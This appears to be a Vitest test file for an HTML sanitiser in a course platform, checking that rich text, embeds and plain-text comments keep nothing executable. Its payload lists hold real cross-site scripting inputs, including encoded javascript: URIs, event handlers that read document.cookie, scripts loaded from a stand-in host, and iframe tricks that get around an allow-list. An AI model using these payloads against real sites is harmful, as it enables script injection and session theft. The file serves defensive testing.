import { describe, expect, it } from "vitest";
import {
  richTextToPlain,
  richTextWords,
  sanitizePlainText,
  sanitizeRichText,
} from "./rich-text.ts";

// Payloads from the OWASP XSS filter evasion cheat sheet and DOMPurify's and sanitize-html's
// own test suites: each must come out without anything that could run.
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC= onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="//evil.example/x">protocol relative</a>',
  "<svg/onload=alert('XSS')>",
  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
  '<BODY ONLOAD=alert("XSS")>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  '<p style="x:expression(alert(1))">styled</p>',
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<details open ontoggle=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
];

// Frames that try to slip past the embed allow-list: other hosts, look-alike hosts, other
// schemes, other paths on an allowed host, and script in the frame's attributes.
const EMBED_PAYLOADS = [
  '<iframe src="https://evil.example/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
  '<iframe src="https://evilyoutube.com/embed/abc"></iframe>',
  '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
  '<iframe src="//www.youtube.com/embed/abc"></iframe>',
  '<iframe src="javascript:alert(1)//www.youtube.com/embed/abc"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="https://docs.google.com/forms/d/abc/viewform"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>',
  '<iframe src="https://user:pass@www.youtube.com/embed/abc"></iframe>',
  '<iframe src=" https://www.youtube.com/embed/abc/../../redirect?u=evil"></iframe>',
  '<IFRAME SRC="https://player.vimeo.com/video/1" STYLE="position:fixed;top:0"></IFRAME>',
  '<frameset><frame src="https://www.youtube.com/embed/abc"></frameset>',
  '<embed src="https://www.youtube.com/embed/abc">',
  '<object data="https://www.youtube.com/embed/abc"></object>',
];

describe("sanitizeRichText", () => {
  it.each(PAYLOADS)("leaves nothing that could run, embeds allowed or not: %s", (payload) => {
    for (const clean of [sanitizeRichText(payload), sanitizeRichText(payload, { embeds: true })]) {
      expect(clean).not.toMatch(
        /<(script|object|embed|form|meta|style|link|base|svg|math|body|table|video|details|div|input)\b/i,
      );
      expect(clean).not.toMatch(/\son\w+\s*=/i);
      expect(clean).not.toMatch(/(javascript|vbscript|data):/i);
      expect(clean).not.toMatch(/(href|src)="\/\//i);
      expect(clean).not.toMatch(/srcdoc/i);
    }
  });

  it.each(EMBED_PAYLOADS)("keeps no frame that is not an allowed embed: %s", (payload) => {
    const clean = sanitizeRichText(payload, { embeds: true });
    const frames = [...clean.matchAll(/<iframe\b[^>]*>/gi)].map((m) => m[0]);
    for (const frame of frames) {
      expect(frame).toMatch(
        /^<iframe src="https:\/\/(www\.youtube\.com|player\.vimeo\.com)\/(embed|video)\/\w+"/,
      );
      expect(frame).not.toMatch(/\son\w+=|srcdoc|style=/i);
      expect(frame).toContain(
        'sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"',
      );
    }
    expect(clean).not.toMatch(/<(frame|frameset|embed|object)\b/i);
  });

  it("keeps embeds from YouTube, Vimeo, Google Slides, CodeSandbox and CodePen, sandboxed", () => {
    for (const src of [
      "https://www.youtube.com/embed/dQw4w9WgXcQ",
      "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30",
      "https://player.vimeo.com/video/76979871",
      "https://docs.google.com/presentation/d/e/2PACX-1vQ/embed?start=false",
      "https://codesandbox.io/embed/react-new",
      "https://codepen.io/team/embed/preview/PNaGbb?default-tab=result",
    ]) {
      const clean = sanitizeRichText(
        `<p>Watch</p><iframe src="${src}" width="560" height="315" title="Demo" frameborder="0">fallback</iframe>`,
        { embeds: true },
      );
      expect(clean).toBe(
        `<p>Watch</p><iframe src="${src.replace(/&/g, "&amp;")}" width="560" height="315" title="Demo" allowfullscreen loading="lazy" referrerpolicy="strict-origin-when-cross-origin" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>`,
      );
    }
    // Without embeds (lesson text), no frame is kept at all.
    expect(sanitizeRichText('<iframe src="https://www.youtube.com/embed/abc"></iframe>')).toBe("");
  });

  it.each(PAYLOADS)("leaves nothing that could run: %s", (payload) => {
    const clean = sanitizeRichText(payload);
    expect(clean).not.toMatch(
      /<(script|iframe|object|embed|form|meta|style|link|base|svg|math|body|table|video|details|div|input)\b/i,
    );
    expect(clean).not.toMatch(/\son\w+\s*=/i);
    expect(clean).not.toMatch(/(javascript|vbscript|data):/i);
    expect(clean).not.toMatch(/href="\/\//i);
  });

  it("keeps the allowed structure and makes links safe to follow", () => {
    const html =
      '<h2>Sleep</h2><p>Read <a href="https://www.cdc.gov/sleep">the CDC</a> and <strong>rest</strong>.</p><ul><li>One</li></ul>';
    expect(sanitizeRichText(html)).toBe(
      '<h2>Sleep</h2><p>Read <a href="https://www.cdc.gov/sleep" rel="noopener noreferrer" target="_blank">the CDC</a> and <strong>rest</strong>.</p><ul><li>One</li></ul>',
    );
  });

  it("keeps pictures over https and the API's own files, and drops the rest", () => {
    expect(sanitizeRichText('<img src="https://example.org/a.png" alt="A">')).toBe(
      '<img alt="A" src="https://example.org/a.png" />',
    );
    expect(sanitizeRichText('<img src="/api/v1/course-files/courses/x/a.jpg">')).toContain(
      'src="/api/v1/course-files/courses/x/a.jpg"',
    );
    expect(sanitizeRichText('<img src="data:image/png;base64,AAAA">')).toBe("");
  });

  it("says whether any text is left", () => {
    expect(richTextToPlain("<p><br></p>")).toBe("");
    expect(richTextToPlain("<p>Hi <em>there</em></p>")).toBe("Hi there");
  });

  it("gives the words of rich text, blocks apart", () => {
    expect(
      richTextWords("<h2>Title</h2><p>One &amp; two</p><ul><li>three</li><li>four</li></ul>"),
    ).toBe("Title One & two three four");
  });
});

describe("sanitizePlainText (comments, posts, names)", () => {
  it.each(PAYLOADS)("leaves no markup: %s", (payload) => {
    const clean = sanitizePlainText(payload);
    expect(clean).not.toMatch(/<[a-z!/?]/i);
    expect(clean).not.toMatch(/\son\w+\s*=/i);
  });

  it("keeps the characters people type, and takes markup spelled with entities apart too", () => {
    expect(sanitizePlainText("5 < 6 & 7 > 2, \"quoted\" and 'single'")).toBe(
      "5 < 6 & 7 > 2, \"quoted\" and 'single'",
    );
    expect(sanitizePlainText("Line one\nLine two")).toBe("Line one\nLine two");
    expect(sanitizePlainText("<b>Bold</b> <script>alert(1)</script>text")).toBe("Bold text");
    expect(sanitizePlainText("&lt;script&gt;alert(1)&lt;/script&gt;ok")).toBe("ok");
    expect(sanitizePlainText("&lt;img src=x onerror=alert(1)&gt;")).toBe("");
    expect(sanitizePlainText("I <3 walking")).toBe("I <3 walking");
  });
});
